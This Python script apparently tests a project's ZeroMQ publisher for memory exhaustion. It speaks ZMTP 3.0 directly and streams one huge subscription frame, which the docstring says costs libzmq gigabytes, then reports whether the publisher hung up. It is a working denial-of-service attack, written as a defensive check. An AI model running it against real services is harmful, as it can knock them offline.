"""A hostile subscriber process: one subscription message of SIZE_MIB mebibytes.

usage: python huge_subscriber.py HOST:PORT SIZE_MIB

It speaks ZMTP 3.0 itself (greeting, READY as a SUB, then one long subscription frame,
streamed), so the attack costs it no memory: libzmq's own SUB keeps a subscription in a trie
of one node per byte, gigabytes for 256 MiB. Prints how many bytes the publisher read before
it closed the connection, then ``closed`` or ``accepted``.
"""

from __future__ import annotations

import socket
import struct
import sys

CHUNK_BYTES = 1 << 20
GREETING = (b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00")
            + b"\x00" + b"\x00" * 31)


def _ready_command() -> bytes:
    body = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", 3) + b"SUB"
    return b"\x04" + bytes([len(body)]) + body


def main(argv: list[str]) -> int:
    host, port = argv[0].rsplit(":", 1)
    size = int(argv[1]) * 1024 * 1024
    sent = 0
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.sendall(GREETING)
        sock.recv(64)  # the publisher's greeting (its READY may follow)
        sock.sendall(_ready_command())
        print("subscribed", flush=True)
        # A long message frame: flags 0x02, 8-byte length; body 0x01 (subscribe) + topic.
        sock.sendall(b"\x02" + struct.pack(">Q", size) + b"\x01genrecast.")
        chunk = b"x" * CHUNK_BYTES
        try:
            while sent < size - 11:
                n = min(CHUNK_BYTES, size - 11 - sent)
                sock.sendall(chunk[:n])
                sent += n
            sock.shutdown(socket.SHUT_WR)
            closed = sock.recv(1 << 16) == b""  # the publisher hung up (or sends nothing)
        except (BrokenPipeError, ConnectionResetError):
            closed = True
    print(sent, "closed" if closed else "accepted", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
